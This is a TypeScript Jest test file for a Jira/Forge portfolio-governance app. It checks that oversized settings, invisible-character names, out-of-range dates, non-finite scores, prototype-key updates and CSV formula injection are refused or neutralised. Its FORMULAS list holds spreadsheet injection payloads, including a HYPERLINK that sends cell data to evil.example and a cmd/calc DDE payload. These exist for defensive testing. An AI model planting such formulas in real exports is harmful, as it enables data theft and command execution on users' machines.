/**
 * The review's "Bad input" class, attacked through the real resolvers as Forge calls them (kit.ts), one block per
 * finding: oversized settings, names made only of invisible characters, absurd years, scores that are not finite,
 * spreadsheet formulas behind whitespace or in full-width form, and updates that name no field or change nothing.
 *
 * Refused input must answer with the contract's error type and a sentence naming what was wrong, and leave every
 * issue property and KVS entry as it was (so the ledger records nothing). Input that is valid but extreme (a ROI
 * over almost no cost, a summary that looks like a formula) must be stored and then come out of every export as
 * something a person can read and a spreadsheet will not run. Each attack is counted; the counts go to
 * test-results/reliability.json.
 */
import { PEOPLE } from '../../sandbox/seed/people';
import { saveSettingsUseCase } from '../../src/app/settings-use-case';
import { type SettingsLoadResult } from '../../src/contract/admin';
import { type ResolverResponse } from '../../src/contract/envelope';
import { type MacroData } from '../../src/contract/macro';
import { type PortfolioCsv, type PortfolioData } from '../../src/contract/portfolio';
import { DEFAULT_TEMPLATES } from '../../src/domain/default-templates';
import { settingsSchema } from '../../src/domain/settings';
import { cloneTemplate, type StageGateTemplate } from '../../src/domain/templates';
import { type BackendWorld, startBackendWorld } from '../integration/backend-world';
import { callers, changesBetween, jiraWriteCounter, recordFigures, worldState } from './kit';

const LEAD = PEOPLE.pmoLead.accountId;
const ADMIN = PEOPLE.admin.accountId;
const OWNER = PEOPLE.owner.accountId;
const COOPER = DEFAULT_TEMPLATES[0]!;
const G1 = COOPER.stages[0]!.exitGate!;
const PROJECT = 'District heating in Bergen';

/** Every kind of character that shows nothing, alone and mixed. */
const INVISIBLE = [
  '\u200b',
  '\u200b\u200c\u200d',
  '\u200e\u200f',
  '\u202e',
  '\u202a\u202b\u202c\u202d',
  '\u2060\u2061\u2062\u2063\u2064',
  '\u2066\u2067\u2068\u2069',
  '\ufeff\u200b',
  '\u00ad\u061c',
  '\u3164\u2800',
];
const ABSURD_DAYS = ['0000-01-01', '0001-01-01', '0202-05-01', '1899-12-31', '2201-01-01', '9999-12-31'];
/** Names of Object.prototype members: an update naming them used to be recorded although it changed nothing. */
const PROTOTYPE_KEYS = [
  'toString',
  'constructor',
  '__proto__',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
];
/** Formulas behind what a spreadsheet skips, and in full-width form (OWASP CSV injection). */
const FORMULAS = [
  ' =HYPERLINK("http://evil.example/?x="&A1,"Open")',
  '   +1+cmd|" /C calc"!A0',
  '\u00a0-2+3',
  '\u3000@SUM(A1:A9)',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e+cmd',
  '\u2066\u2060@x',
  '\uff1dHYPERLINK("http://evil.example")',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(A1)',
  ' \uff1d1+1',
];

jest.setTimeout(300_000);

/** RFC 4180 fields of a CSV document, line by line, as a spreadsheet reads it: a byte order mark first is not data. */
function parseCsv(document: string): string[][] {
  const text = document.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

/** `template` as a new version (or under a new id) whose every gate holds `count` criteria of long text. */
function withCriteria(template: StageGateTemplate, id: string, version: number, count: number, text: string) {
  return {
    ...template,
    id,
    version,
    stages: template.stages.map((stage) =>
      stage.exitGate
        ? {
            ...stage,
            exitGate: {
              ...stage.exitGate,
              criteria: Array.from({ length: count }, (_, i) => ({
                id: `c-${i}`,
                title: text.slice(0, 200),
                kind: 'must' as const,
                evidence: text.slice(0, 300),
              })),
            },
          }
        : stage,
    ),
  };
}

describe('bad input through the real resolvers', () => {
  let world: BackendWorld;
  let call: ReturnType<typeof callers>;
  let key: string;
  let writes: ReturnType<typeof jiraWriteCounter>;
  let form: Record<string, unknown>;
  const attacks: Record<string, number> = {};

  beforeAll(async () => {
    world = await startBackendWorld('controlling');
    call = callers(world);
    key = world.data.store.listIssues().find((i) => i.fields.summary === PROJECT)!.key;
    const ops = [
      { type: 'startGovernance', templateId: COOPER.id, templateVersion: COOPER.version },
      {
        type: 'addRaidItem',
        item: { type: 'risk', title: 'Supplier insolvency', owner: OWNER, likelihood: 3, impact: 4 },
      },
    ];
    for (const op of ops) expect((await call.panel(LEAD, 'project/apply', { op }, key)).success).toBe(true);
    const loaded = (await call.admin<SettingsLoadResult>(ADMIN, 'settings/load', {})) as {
      success: true;
      data: SettingsLoadResult;
    };
    form = JSON.parse(JSON.stringify({ ...loaded.data.settings, expectedVersion: loaded.data.version })) as Record<
      string,
      unknown
    >;
    // Settle the queue a first load starts, so each attack is measured against a quiet world.
    await call.portfolio(LEAD, 'portfolio/load', {});
    await world.runtime.drainQueue();
    writes = jiraWriteCounter(world);
  });
  afterAll(async () => {
    writes.stop();
    const total = Object.values(attacks).reduce((sum, n) => sum + n, 0);
    recordFigures('bad-input', { attacks, total });
    await world.close();
  });

  const count = (finding: string) => {
    attacks[finding] = (attacks[finding] ?? 0) + 1;
  };

  /**
   * One attack that must be refused with `errorType` and a message or problem matching `says` (or the i18n key), with
   * nothing written to Jira or the KVS.
   */
  async function refused(
    finding: string,
    send: () => Promise<ResolverResponse<unknown>>,
    errorType: 'INVALID_PAYLOAD' | 'REFUSED',
    says: RegExp | string,
  ): Promise<void> {
    // What earlier steps set off (a trigger's recompute after a REST edit) lands first, so it is not counted here.
    await world.runtime.drainQueue();
    const before = await worldState(world);
    const writesBefore = writes.count();
    const response = await send();
    expect(response.success).toBe(false);
    if (response.success) return;
    const [error] = response.errors;
    expect(error?.errorType).toBe(errorType);
    if (typeof says === 'string') expect(error?.i18n?.key).toBe(says);
    else expect([error?.message ?? '', ...(error?.problems ?? [])].join('\n')).toMatch(says);
    await world.runtime.drainQueue();
    expect(writes.count()).toBe(writesBefore);
    expect(changesBetween(before, await worldState(world))).toEqual([]);
    count(finding);
  }

  const apply = (op: unknown) => () => call.panel(LEAD, 'project/apply', { op }, key);
  const save = (changes: Record<string, unknown>) => () => call.admin(ADMIN, 'settings/save', { ...form, ...changes });

  describe('1. oversized settings answer INVALID_PAYLOAD naming the limit, and store nothing', () => {
    const LIMIT = /more than the 240 KiB it keeps in one value/;

    it('a template version with hundreds of long criteria', async () => {
      const long = 'Evidence of a signed-off business case, reviewed by finance and the sponsor. '.repeat(5);
      const templates = [
        withCriteria(COOPER, 'acme-gates', 1, 60, long),
        withCriteria(COOPER, 'acme-gates', 2, 60, long),
      ];
      await refused('oversized settings', save({ templates }), 'INVALID_PAYLOAD', LIMIT);
    });

    it('a hundred versions of a template, each of them small', async () => {
      const templates = Array.from({ length: 100 }, (_, i) => ({
        ...cloneTemplate(COOPER, 'acme-gates', 'ACME gates'),
        version: i + 1,
        description: 'Our variant of the Cooper gates, revised after every portfolio review.'.repeat(6),
      }));
      await refused('oversized settings', save({ templates }), 'INVALID_PAYLOAD', LIMIT);
    });

    it('criteria that fit in characters but not in bytes', async () => {
      const template = withCriteria(COOPER, 'nordic-gates', 1, 60, 'ø'.repeat(300));
      expect(JSON.stringify(template).length).toBeLessThan(240 * 1024);
      await refused('oversized settings', save({ templates: [template] }), 'INVALID_PAYLOAD', LIMIT);
    });

    it('a caller past the bridge schema, which Forge storage itself would refuse with MAX_SIZE', async () => {
      const long = 'x'.repeat(300);
      const settings = settingsSchema.parse({
        ...form,
        expectedVersion: undefined,
        templates: [withCriteria(COOPER, 'acme-gates', 1, 60, long), withCriteria(COOPER, 'acme-gates', 2, 60, long)],
      });
      const before = await worldState(world);
      const version = form.expectedVersion as number;
      await expect(
        world.as(ADMIN, () =>
          saveSettingsUseCase(world.deps, { accountId: ADMIN, expectedVersion: version, settings }),
        ),
      ).rejects.toMatchObject({ errorType: 'INVALID_PAYLOAD', i18n: { key: 'admin.problem.tooLarge' } });
      // The limit is Forge's own: the store refuses the same document when asked directly.
      await expect(world.as(null, () => world.deps.storage.saveSettings(settings, version))).rejects.toMatchObject({
        code: 'MAX_SIZE',
      });
      expect(changesBetween(before, await worldState(world))).toEqual([]);
      count('oversized settings');
    });
  });

  describe('2. names and reasons with nothing visible in them are refused, wherever a person types them', () => {
    const VISIBLE = /enter at least one visible character/;
    const risk = (title: string) => ({ type: 'risk', title, owner: OWNER, likelihood: 2, impact: 2 });

    it.each(INVISIBLE.map((text) => [JSON.stringify(text), text]))('a RAID title of %s', async (_name, text) => {
      await refused('invisible names', apply({ type: 'addRaidItem', item: risk(text) }), 'INVALID_PAYLOAD', VISIBLE);
    });

    it.each<[string, (text: string) => unknown]>([
      [
        'a decision statement',
        (text) => ({
          type: 'addRaidItem',
          item: {
            type: 'decision',
            title: 'Go live',
            owner: OWNER,
            statement: text,
            approver: LEAD,
            decidedAt: '2026-11-20',
          },
        }),
      ],
      ['a gate rationale', (text) => ({ type: 'decideGate', gateId: G1.id, outcome: 'HOLD', rationale: text })],
      [
        'a Conditional-Go condition',
        (text) => ({
          type: 'decideGate',
          gateId: G1.id,
          outcome: 'CONDITIONAL_GO',
          rationale: 'Fits the plan',
          conditions: ['Secure the heat supplier', text],
          conditionsDueDate: '2027-01-15',
        }),
      ],
      ['a status review', (text) => ({ type: 'recordStatusReview', summary: text, confidence: 'high' })],
      ['a close note', (text) => ({ type: 'closeRaidItem', id: 'R-1', note: text })],
      [
        'an evidence title',
        (text) => ({
          type: 'checkItem',
          gateId: G1.id,
          criterionId: G1.criteria[0]!.id,
          state: 'done',
          evidence: [{ url: 'https://wiki.example.com/fit', title: text }],
        }),
      ],
      ['a changed RAID title', (text) => ({ type: 'updateRaidItem', id: 'R-1', changes: { title: text } })],
    ])('%s', async (_name, op) => {
      for (const text of ['\u202e\u2066', '\u200b\ufeff']) {
        await refused('invisible names', apply(op(text)), 'INVALID_PAYLOAD', VISIBLE);
      }
    });

    it('a not-applicable reason: the reducer asks for a reason', async () => {
      const op = { type: 'checkItem', gateId: G1.id, criterionId: G1.criteria[0]!.id, state: 'na', naReason: '\u200b' };
      await refused('invisible names', apply(op), 'REFUSED', 'refusal.na-needs-reason');
    });

    it.each<[string, (template: StageGateTemplate, text: string) => StageGateTemplate]>([
      ['a template name', (template, text) => ({ ...template, name: text })],
      [
        'a gate name',
        (template, text) => ({
          ...template,
          stages: template.stages.map((s, i) => (i === 0 ? { ...s, exitGate: { ...s.exitGate!, name: text } } : s)),
        }),
      ],
      [
        'a criterion name',
        (template, text) => ({
          ...template,
          stages: template.stages.map((s, i) =>
            i === 0
              ? {
                  ...s,
                  exitGate: { ...s.exitGate!, criteria: s.exitGate!.criteria.map((c) => ({ ...c, title: text })) },
                }
              : s,
          ),
        }),
      ],
    ])('%s in the settings', async (_name, edit) => {
      const template = edit(cloneTemplate(COOPER, 'acme-gates', 'ACME gates'), '\u200b\u202e');
      await refused('invisible names', save({ templates: [template] }), 'INVALID_PAYLOAD', VISIBLE);
    });
  });

  describe('3. dates outside 1900–2200 are refused as typed', () => {
    const RANGE = /use a date between 1900-01-01 and 2200-12-31/;

    it.each(ABSURD_DAYS)('a next gate date of %s', async (day) => {
      await refused('absurd dates', apply({ type: 'setNextGateDate', nextGateDate: day }), 'INVALID_PAYLOAD', RANGE);
    });

    it.each<[string, unknown]>([
      [
        'a conditions date',
        {
          type: 'decideGate',
          gateId: G1.id,
          outcome: 'CONDITIONAL_GO',
          rationale: 'x',
          conditions: ['c'],
          conditionsDueDate: '0000-01-01',
        },
      ],
      [
        'a decision’s next gate',
        { type: 'decideGate', gateId: G1.id, outcome: 'HOLD', rationale: 'x', nextGateDate: '9999-12-31' },
      ],
      [
        'an issue’s due date',
        {
          type: 'addRaidItem',
          item: { type: 'issue', title: 'No test rig', owner: OWNER, severity: 2, dueDate: '0001-01-01' },
        },
      ],
      ['a review date', { type: 'reviewRaidItem', id: 'R-1', nextReviewAt: '0000-01-01' }],
      ['a changed proximity', { type: 'updateRaidItem', id: 'R-1', changes: { proximity: '0202-05-01' } }],
    ])('%s', async (_name, op) => {
      await refused('absurd dates', apply(op), 'INVALID_PAYLOAD', RANGE);
    });

    it('a portfolio "as of" day', async () => {
      await refused(
        'absurd dates',
        () => call.portfolio(LEAD, 'portfolio/load', { asOf: '0000-01-01' }),
        'INVALID_PAYLOAD',
        RANGE,
      );
    });

    it('a macro configured "as of" year 0000', async () => {
      const config = { view: 'portfolio-table', asOf: '0000-01-01' };
      await refused('absurd dates', () => call.macro(LEAD, config), 'INVALID_PAYLOAD', RANGE);
    });
  });

  describe('4. scores that are not finite never reach the CSV, the page or the macro', () => {
    it.each<[string, { expectedBenefit: number; cost: number }]>([
      ['a benefit near the largest number over a small cost', { expectedBenefit: 1e308, cost: 0.5 }],
      ['a cost of the smallest number there is', { expectedBenefit: 2, cost: Number.MIN_VALUE }],
    ])('%s', async (_name, inputs) => {
      expect(
        (await call.panel(LEAD, 'project/apply', { op: { type: 'setPriorityInputs', inputs } }, key)).success,
      ).toBe(true);
      const csv = (await call.portfolio<PortfolioCsv>(LEAD, 'portfolio/csv', {})) as {
        success: true;
        data: PortfolioCsv;
      };
      const [header, ...rows] = parseCsv(csv.data.csv);
      const row = rows.find((cells) => cells[0] === key)!;
      expect(row[header!.indexOf('ROI')]).toBe('');
      expect(csv.data.csv).not.toMatch(/Infinity|NaN/);
      const page = (await call.portfolio<PortfolioData>(LEAD, 'portfolio/load', {
        filter: { text: PROJECT },
      })) as {
        success: true;
        data: PortfolioData;
      };
      expect(page.data.page.rows.find((r) => r.key === key)?.roi).toBeNull();
      const config = { view: 'portfolio-table', projectKey: key, columns: ['key', 'roi'] };
      const macro = (await call.macro<MacroData>(LEAD, config)) as { success: true; data: MacroData };
      expect(JSON.stringify(macro.data.table)).toContain(key);
      expect(JSON.stringify(macro.data)).not.toMatch(/Infinity|NaN/);
      count('non-finite scores');
    });
  });

  describe('5. formulas behind whitespace, invisible characters or in full-width form are neutralised in the CSV', () => {
    it.each(FORMULAS.map((summary) => [JSON.stringify(summary), summary]))(
      'a summary of %s',
      async (_name, summary) => {
        const edited = await world.rest({ kind: 'user', accountId: LEAD }, 'PUT', `/rest/api/3/issue/${key}`, {
          fields: { summary },
        });
        expect(edited.status).toBe(204);
        // What is attacked is the export, not Jira's search lag or the trigger's: let the issue trigger write the row
        // and the index catch up, as they do within seconds.
        await world.runtime.drainQueue();
        world.jira.settleSearchIndex();
        const csv = (await call.portfolio<PortfolioCsv>(LEAD, 'portfolio/csv', {})) as {
          success: true;
          data: PortfolioCsv;
        };
        const [header, ...rows] = parseCsv(csv.data.csv);
        const cell = rows.find((cells) => cells[0] === key)![header!.indexOf('Summary')];
        expect(cell).toBe(`'${summary}`);
        count('formula injection');
      },
    );
  });

  describe('6. updates that name no field of the item, or change nothing, are refused and record nothing', () => {
    it.each(PROTOTYPE_KEYS)('changes naming %s', async (name) => {
      // As JSON.parse builds it on the server: `__proto__` is then an own key, like any other.
      const op: unknown = JSON.parse(`{"type":"updateRaidItem","id":"R-1","changes":{"${name}":"x"}}`);
      await refused('unknown or empty changes', apply(op), 'INVALID_PAYLOAD', /no RAID item has such a field/);
    });

    it.each<[string, Record<string, unknown>]>([
      ['no changes at all', {}],
      ['the value it already has', { likelihood: 3 }],
      ['the title it already has, padded', { title: '  Supplier insolvency ' }],
      ['every value it already has', { likelihood: 3, impact: 4, title: 'Supplier insolvency' }],
    ])('%s', async (_name, changes) => {
      await refused(
        'unknown or empty changes',
        apply({ type: 'updateRaidItem', id: 'R-1', changes }),
        'REFUSED',
        'refusal.raid-item-unchanged',
      );
    });

    it.each<[string, unknown, 'INVALID_PAYLOAD' | 'REFUSED', RegExp | string]>([
      [
        'a key beside the op',
        { type: 'updateRaidItem', id: 'R-1', changes: { likelihood: 4 }, force: true },
        'INVALID_PAYLOAD',
        /Unrecognized key: "force"/,
      ],
      [
        'an id a new item gives itself',
        { type: 'addRaidItem', item: { type: 'risk', title: 'x', owner: OWNER, likelihood: 2, impact: 2, id: 'R-99' } },
        'INVALID_PAYLOAD',
        /Unrecognized key: "id"/,
      ],
      [
        'a field of another RAID type',
        { type: 'updateRaidItem', id: 'R-1', changes: { severity: 3 } },
        'REFUSED',
        'refusal.invalid-change',
      ],
    ])('%s', async (_name, op, errorType, says) => {
      await refused('unknown or empty changes', apply(op), errorType, says);
    });

    it('priority inputs that change nothing', async () => {
      await refused(
        'unknown or empty changes',
        apply({ type: 'setPriorityInputs', inputs: {} }),
        'REFUSED',
        'refusal.no-change',
      );
    });
  });

  it('counts every attack', () => {
    expect(attacks).toEqual({
      'oversized settings': 4,
      'invisible names': INVISIBLE.length + 7 * 2 + 1 + 3,
      'absurd dates': ABSURD_DAYS.length + 5 + 2,
      'unknown or empty changes': PROTOTYPE_KEYS.length + 4 + 3 + 1,
      'non-finite scores': 2,
      'formula injection': FORMULAS.length,
    });
  });
});
